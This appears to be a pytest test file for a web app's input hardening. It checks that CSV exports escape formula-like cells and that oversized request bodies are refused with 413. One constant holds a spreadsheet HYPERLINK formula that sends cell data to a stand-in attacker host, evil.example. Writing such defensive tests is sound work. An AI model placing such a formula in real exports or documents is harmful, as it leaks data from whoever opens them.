"""Careless or hostile input answers 404 or 422 (never 500) and is stored harmlessly (issue 10).

SQLite only: the faults here are in parsing and validation, before any SQL runs; the property test
over every write route (``test_write_routes_fuzz.py``) and the schema fuzz run cover both shapes.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from tests.integration.test_web_auth import login
from tests.support.cast import PASSWORD, Cast, make_cast

from goalwise.services.context import Context
from goalwise.services.sharing import privacy
from goalwise.storage.tables import journal_entries

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def cast_s(sqlite_ctx: Context) -> Cast:
    return make_cast(sqlite_ctx)


@pytest.fixture
def web(sqlite_ctx: Context, cast_s: Cast) -> Iterator[TestClient]:
    from goalwise.web.app import create_app

    with TestClient(create_app(sqlite_ctx.settings, sqlite_ctx.db)) as client:
        yield client


def test_a_formula_user_agent_is_text_in_the_audit_csv(web: TestClient, cast_s: Cast) -> None:
    web.get("/login")
    web.post(
        "/login",
        data={
            "email": "t1@example.org",
            "password": "wrong",
            "pre_token": web.cookies.get("goalwise_pre", ""),
        },
        headers={"User-Agent": FORMULA},
        follow_redirects=False,
    )
    web.cookies.clear()
    assert login(web, cast_s.admin.email, PASSWORD) == 303
    body = web.get("/admin/audit.csv").text
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_journal_cells_that_look_like_formulas_are_text_in_the_export(
    sqlite_ctx: Context, cast_s: Cast
) -> None:
    now = datetime.now(UTC)
    for body in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", "-3"):
        with sqlite_ctx.db.write() as conn:
            conn.execute(
                insert(journal_entries).values(
                    client_id=cast_s.client_a.client_id,
                    at=now,
                    local_on=date.today(),
                    private=True,
                    created_at=now,
                    body_enc=sqlite_ctx.keys.encrypt(body, context=b"journal_entries.body_enc"),
                )
            )
    data = privacy.export_client(sqlite_ctx, cast_s.client_a.actor, cast_s.client_a.client_id)  # type: ignore[arg-type]
    text = zipfile.ZipFile(io.BytesIO(data)).read("journal_entries.csv").decode()
    bodies = [row["body"] for row in csv.DictReader(io.StringIO(text))]
    assert bodies == ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "-3"]


BIG = b'{"mood": 5, "note": "' + b"x" * 1_100_000 + b'"}'


def test_a_body_over_the_limit_is_refused_before_parsing(web: TestClient) -> None:
    response = web.post(
        "/api/v1/clients/1/checkins", content=BIG, headers={"content-type": "application/json"}
    )
    assert response.status_code == 413
    body = response.json()
    assert body["ok"] is False and body["status"] == 413
    assert body["problems"][0]["field"] == "body"
    assert "1048576 bytes" in body["error"]
    assert response.headers["x-content-type-options"] == "nosniff"


def test_a_chunked_body_over_the_limit_is_refused_as_it_streams(web: TestClient) -> None:
    sent: list[int] = []

    def chunks() -> Iterator[bytes]:
        for _ in range(40):
            sent.append(1)
            yield b" " * 65_536

    response = web.post(
        "/api/v1/clients/1/checkins", content=chunks(), headers={"content-type": "application/json"}
    )
    assert "content-length" not in response.request.headers
    assert response.status_code == 413
    assert response.json()["status"] == 413


def test_a_large_form_is_refused_on_a_page(web: TestClient) -> None:
    response = web.post("/login", data={"email": "a@example.org", "password": "x" * 1_100_000})
    assert response.status_code == 413
    assert "text/html" in response.headers["content-type"]


def test_a_body_under_the_limit_reaches_the_route(web: TestClient) -> None:
    small = b'{"mood": 5, "note": "' + b"x" * 900_000 + b'"}'
    response = web.post(
        "/api/v1/clients/1/checkins", content=small, headers={"content-type": "application/json"}
    )
    assert response.status_code == 401


def test_the_limit_is_a_setting(sqlite_ctx: Context) -> None:
    from goalwise.web.app import create_app

    settings = sqlite_ctx.settings.model_copy(update={"max_body_bytes": 2048})
    with TestClient(create_app(settings, sqlite_ctx.db)) as client:
        response = client.post("/api/v1/clients/1/checkins", content=b"{" + b" " * 3000 + b"}")
    assert response.status_code == 413
    assert "2048 bytes" in response.json()["error"]
